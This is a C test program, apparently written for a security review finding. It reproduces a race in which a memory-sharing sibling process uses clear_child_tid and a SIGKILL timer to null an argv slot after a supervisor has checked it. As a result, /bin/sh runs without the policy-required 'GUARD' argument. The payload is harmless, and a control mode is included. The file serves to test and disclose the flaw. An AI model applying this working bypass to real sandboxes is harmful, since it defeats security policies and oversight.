/* exec_killed_sibling MARKER DELAY_MS [nosibling]: review finding 1, the kernel writing into
 * argv after the supervisor read it.
 *
 * argv lives below 4 GiB, so a 32-bit 0 written over a pointer slot makes it NULL. A
 * process sharing this memory (clone(CLONE_VM), not a thread) registers the slot of
 * argv[4] as its clear_child_tid and arms a POSIX timer that SIGKILLs it after DELAY_MS;
 * the kernel's exit path then writes 0 there, whatever ptrace stop it is in. Meanwhile
 * this process execs /bin/sh -c 'echo ran > "$0"' MARKER GUARD; a policy that requires
 * the last argument to be GUARD sees it, and the kernel, re-reading argv later, runs the
 * command without it. With "nosibling" the same exec runs undisturbed (the control). */
#define _GNU_SOURCE
#include <errno.h>
#include <sched.h>
#include <signal.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

static volatile int armed;
static long delay_ms;

static int sibling(void *slot) {
    syscall(SYS_set_tid_address, slot);
    struct sigevent sev;
    memset(&sev, 0, sizeof sev);
    sev.sigev_notify = SIGEV_THREAD_ID;
    sev.sigev_signo = SIGKILL;
    sev._sigev_un._tid = (pid_t)syscall(SYS_gettid);
    timer_t timer;
    if (syscall(SYS_timer_create, CLOCK_MONOTONIC, &sev, &timer) != 0)
        _exit(2);
    struct itimerspec its;
    memset(&its, 0, sizeof its);
    its.it_value.tv_sec = delay_ms / 1000;
    its.it_value.tv_nsec = (delay_ms % 1000) * 1000000L;
    if (syscall(SYS_timer_settime, timer, 0, &its, NULL) != 0)
        _exit(2);
    armed = 1;
    for (;;)
        pause();
}

static char *put(char **at, const char *s) {
    char *p = *at;
    strcpy(p, s);
    *at += strlen(s) + 1;
    return p;
}

int main(int argc, char **argv) {
    if (argc < 3)
        return 2;
    delay_ms = atol(argv[2]);
    char *area = mmap((void *)0x10000000, 1 << 16, PROT_READ | PROT_WRITE,
                      MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE, -1, 0);
    if (area == MAP_FAILED)
        return 2;
    char **vec = (char **)area;
    char *strings = area + 4096;
    vec[0] = put(&strings, "/bin/sh");
    vec[1] = put(&strings, "-c");
    vec[2] = put(&strings, "echo ran > \"$0\"");
    vec[3] = put(&strings, argv[1]);
    vec[4] = put(&strings, "GUARD");
    vec[5] = NULL;
    if (argc < 4 || strcmp(argv[3], "nosibling") != 0) {
        char *stack = mmap(NULL, 1 << 16, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS,
                           -1, 0);
        if (stack == MAP_FAILED ||
            clone(sibling, stack + (1 << 16), CLONE_VM | SIGCHLD, &vec[4]) < 0)
            return 2;
        while (!armed)
            usleep(100);
    }
    execv("/bin/sh", vec);
    return errno == EPERM ? 3 : 4;
}
